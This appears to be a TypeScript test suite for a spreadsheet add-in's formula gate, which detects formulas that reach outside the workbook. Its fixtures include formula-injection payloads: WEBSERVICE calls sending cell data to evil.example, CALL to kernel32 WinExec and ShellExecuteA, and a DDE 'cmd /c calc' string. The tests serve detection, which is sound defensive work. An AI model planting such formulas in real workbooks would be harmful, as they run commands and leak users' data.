import { builtins } from '../../../../src/engine/formula/evaluate/builtins/registry';
import { specialFormNames } from '../../../../src/engine/formula/evaluate/specialForms';
import { FormulaGate } from '../../../../src/workbook/writing/formulaGate';
import { workbookFunctions } from '../../../../src/workbook/writing/workbookFunctions';

const names = [
  { name: 'Rate', formula: 'Inputs!$B$2' },
  { name: 'Hurdle', formula: 'ROI.BASIC(1000,Rate)' },
  { name: 'Twice', formula: 'LAMBDA(x,2*x)' },
  { name: 'Feed', formula: 'WEBSERVICE("https://evil.example/?"&Inputs!$B$2)' },
  { name: 'Through', formula: 'Feed&""' },
  { name: 'Macro', formula: 'CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","calc","","",0)' },
  { name: 'Link', formula: '[1]Sheet1!$A$1' },
  { name: 'Odd', formula: "cmd|'/c calc'!A0" },
  { name: 'Ping', formula: 'Pong+WEBSERVICE("https://evil.example")' },
  { name: 'Pong', formula: 'Ping*0' },
];
const gate = () => new FormulaGate({ sheets: ['Inputs', 'Cash flow', 'ROI.Notes'], names });
const outside = (formula: string): readonly string[] | undefined => gate().reach(formula)?.outside;

describe('FormulaGate', () => {
  it.each([
    '=ROI.BASIC(Inputs!B2,B3)',
    "ROI.PERT(1,2,3,,,\"=WEBSERVICE(\"\"https://x\"\")\")+'Cash flow'!C4",
    '_xldudf_ROI_NORMAL(100,10)',
    'IF(ROI.BASIC(1,2)>Rate,SUM(A1:A9),XLOOKUP(1,A:A,B:B))',
    'Hurdle*2',
    'LET(x,ROI.BASIC(1,2),y,x+1,x*y)',
    'MAP(A1:A9,LAMBDA(v,ROI.BASIC(v,1)))',
    'BYROW(A1:B9,SUM)+ROI.BASIC(1,2)',
    'ROI.BASIC(INDIRECT("Inputs!B2"),1)',
    '_xlfn.XLOOKUP(ROI.BASIC(1,2),A1:A3,B1:B3)',
    'ROI.BASIC(Table1[Cost],A1#)',
  ])('finds that %s calls us and stays inside', (formula) => {
    expect(gate().reach(formula)).toEqual({ callsRoi: true, outside: [] });
  });

  it.each([
    ['ROI.BASIC(1,2)&WEBSERVICE("https://evil.example")', 'WEBSERVICE'],
    ['ROI.BASIC(1,2)&_xlfn.WEBSERVICE("https://evil.example")', 'WEBSERVICE'],
    ['HYPERLINK("https://evil.example",ROI.BASIC(1,2))', 'HYPERLINK'],
    ['IF(ROI.BASIC(1,2)>0,IMAGE("https://evil.example/p.png"))', 'IMAGE'],
    ['FILTERXML(A1,"//a")+ROI.BASIC(1,2)', 'FILTERXML'],
    ['RTD("prog.id",,"x")+ROI.BASIC(1,2)', 'RTD'],
    ['CALL("kernel32","WinExec","JCJ","calc",0)+ROI.BASIC(1,2)', 'CALL'],
    ['REGISTER.ID("kernel32","WinExec","JCJ")+ROI.BASIC(1,2)', 'REGISTER.ID'],
    ['STOCKHISTORY("MSFT",TODAY())+ROI.BASIC(1,2)', 'STOCKHISTORY'],
    ['CUBEVALUE("c","m")+ROI.BASIC(1,2)', 'CUBEVALUE'],
    ['PY("import os")+ROI.BASIC(1,2)', 'PY'],
    ['MyMacro(1)+ROI.BASIC(1,2)', 'MYMACRO'],
    ['_xll.SUM(1)+ROI.BASIC(1,2)', '_xll.SUM'],
    ['_xldudf_SUM(1)+ROI.BASIC(1,2)', '_xldudf_SUM'],
    ['_xll.SINGLE(1)+ROI.BASIC(1,2)', '_xll.SINGLE'],
    ['MAP(A1:A2,WEBSERVICE)+ROI.BASIC(1,2)', 'WEBSERVICE'],
    ['(WEBSERVICE)("https://evil.example")+ROI.BASIC(1,2)', 'WEBSERVICE'],
    ['LET(WEBSERVICE,1,WEBSERVICE("https://evil.example"))+ROI.BASIC(1,2)', 'WEBSERVICE'],
    ['LET(WEBSERVICE,1,WEBSERVICE)+SUM(MAP(A1:A2,WEBSERVICE))+ROI.BASIC(1,2)', 'WEBSERVICE'],
    ['INDIRECT(A1)+ROI.BASIC(1,2)', 'INDIRECT'],
    ['INDIRECT("[Book.xlsx]S!A1")+ROI.BASIC(1,2)', '[Book.xlsx]S'],
    ['[Book.xlsx]Sheet1!A1+ROI.BASIC(1,2)', '[Book.xlsx]Sheet1'],
    ["'\\\\server\\share\\[b.xlsx]S'!A1+ROI.BASIC(1,2)", '\\\\server\\share\\[b.xlsx]S'],
    ["'https://evil.example/[b.xlsx]S'!A1+ROI.BASIC(1,2)", 'https://evil.example/[b.xlsx]S'],
    ["'Book.xlsx'!Table1+ROI.BASIC(1,2)", 'Book.xlsx'],
    ['Nowhere!A1+ROI.BASIC(1,2)', 'Nowhere'],
    ['SUM(Inputs:Elsewhere!A1)+ROI.BASIC(1,2)', 'Elsewhere'],
    ['Undefined+ROI.BASIC(1,2)', 'Undefined'],
    ['Through&ROI.BASIC(1,2)', 'Through: Feed: WEBSERVICE'],
    ['Macro+ROI.BASIC(1,2)', 'Macro: CALL'],
    ['Link+ROI.BASIC(1,2)', 'Link: [1]Sheet1'],
    ['Odd+ROI.BASIC(1,2)', 'Odd'],
    ['Pong+ROI.BASIC(1,2)', 'Pong: Ping: WEBSERVICE'],
    ['Twice(2)+ROI.BASIC(1,2)', 'TWICE'],
  ])('finds what of %s reaches outside', (formula, what) => {
    expect(outside(formula)).toContain(what);
    expect(gate().reach(formula)?.callsRoi).toBe(true);
  });

  it.each(['1+1', '"ROI.BASIC(1,2)"', "'ROI.Notes'!A1", 'ROI.Notes!A1', 'SUM(A1:A9)', 'WEBSERVICE("ROI.BASIC(1,2)")', '_xll.ROI.BASIC(1,2)', '_xldudf_ROIBASIC(1)'])('finds none of our functions in %s', (formula) => {
    expect(gate().reach(formula)?.callsRoi).toBe(false);
  });

  it.each(["cmd|'/c calc'!A0", "ROI.BASIC(cmd|'/c calc'!A0,1)", 'ROI.BASIC(1,', '', `ROI.BASIC(${'1+'.repeat(5000)}1)`])('knows nothing of what cannot be read: %s', (formula) => {
    expect(gate().reach(formula)).toBeNull();
  });

  it('lets a formula be rewritten that reaches no further than it did', () => {
    expect(gate().keepsWithin('=ROI.OUTPUT("x")+WEBSERVICE(A1)', '=WEBSERVICE(A1)')).toBe(true);
    expect(gate().keepsWithin('=ROI.OUTPUT("x")+1', '=HYPERLINK("https://evil.example")')).toBe(false);
    expect(gate().keepsWithin("=cmd|'/c calc'!A0", "=cmd|'/c calc'!A0")).toBe(false);
  });

  it('allows every function that the calculator knows, but those that make links or references of text or tell of the computer', () => {
    const known = [...builtins.map(({ name }) => name), ...specialFormNames];
    expect(known.filter((name) => !workbookFunctions.has(name)).toSorted()).toEqual(['HYPERLINK', 'INDIRECT', 'INFO']);
    expect([...workbookFunctions].filter((name) => !known.includes(name))).toEqual([]);
  });
});
